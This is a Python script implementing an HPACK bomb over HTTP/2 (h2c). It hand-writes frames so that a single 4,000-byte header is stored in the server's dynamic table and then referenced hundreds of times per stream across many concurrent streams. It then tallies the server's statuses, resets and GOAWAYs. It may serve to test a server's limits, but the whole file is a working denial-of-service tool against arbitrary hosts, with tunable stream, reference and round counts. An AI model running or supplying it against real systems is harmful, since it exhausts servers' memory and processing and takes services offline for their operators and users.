#!/usr/bin/env python3
"""HPACK bomb: request header blocks that decode to far more than their size on the wire.

    h2_hpack_bomb.py HOST PORT [--streams N] [--references R] [--rounds K]

Over one h2c connection (prior knowledge), each round opens N streams at once, every one a GET
whose header block names one 4,000-byte header R times: the first block of the connection puts it
into the HPACK dynamic table, every field after that is a one-byte reference to it (index 62) —
~N × R × 4 KB decoded from N × R bytes on the wire. The frames are written by hand (an HPACK
encoder would spend seconds re-encoding what is one byte), the answers read with `hpack`.
Prints the response statuses (and resets) as JSON, e.g. {"431": 500}.
"""
import json
import socket
import struct
import sys
from collections import Counter

from hpack import Decoder


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def literal(name: bytes, value: bytes, indexing: bool) -> bytes:
    def string(s: bytes) -> bytes:
        assert len(s) < 127 or len(s) < 4096
        if len(s) < 127:
            return bytes([len(s)]) + s
        n, out = len(s) - 127, bytearray([127])  # 7-bit prefix integer (RFC 7541 §5.1)
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out) + s
    return bytes([0x40 if indexing else 0x00]) + string(name) + string(value)


def main() -> int:
    args = sys.argv[1:]
    host, port = args[0], int(args[1])
    options = dict(zip(args[2::2], args[3::2]))
    streams, references, rounds = int(options.get("--streams", 100)), int(options.get("--references", 250)), int(options.get("--rounds", 5))
    sock = socket.create_connection((host, port), timeout=20)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    pseudo = b"".join(literal(n, v, False) for n, v in [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/healthz"),
                                                         (b":authority", f"{host}:{port}".encode())])
    decoder = Decoder()
    decoder.max_allowed_table_size = 1 << 16
    results = Counter()
    buffer = bytearray()
    next_id = 1
    first = True
    for _ in range(rounds):
        pending = set()
        out = bytearray()
        for _ in range(streams):
            block = pseudo
            if first:
                block += literal(b"x-bomb", b"b" * 4000, True) + b"\xbe" * (references - 1)
                first = False
            else:
                block += b"\xbe" * references
            out += frame(1, 0x4 | 0x1, next_id, block)  # HEADERS, END_HEADERS | END_STREAM
            pending.add(next_id)
            next_id += 2
        sock.sendall(out)
        while pending:
            data = sock.recv(65536)
            if not data:
                results["connection closed"] += len(pending)
                print(json.dumps(results))
                return 1
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags, sid = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload = bytes(buffer[9:9 + length])
                del buffer[:9 + length]
                if kind == 4 and not flags & 1:
                    sock.sendall(frame(4, 1, 0, b""))  # SETTINGS ack
                elif kind == 1 and sid in pending:
                    status = dict(decoder.decode(payload)).get(":status")
                    results[status] += 1
                    pending.discard(sid)
                elif kind == 1:
                    decoder.decode(payload)  # keep the decoder's table in step
                elif kind == 3 and sid in pending:
                    results[f"reset {int.from_bytes(payload, 'big')}"] += 1
                    pending.discard(sid)
                elif kind == 7:
                    results["goaway"] += 1
    print(json.dumps(results))
    sock.sendall(frame(7, 0, 0, struct.pack("!II", 0, 0)))
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
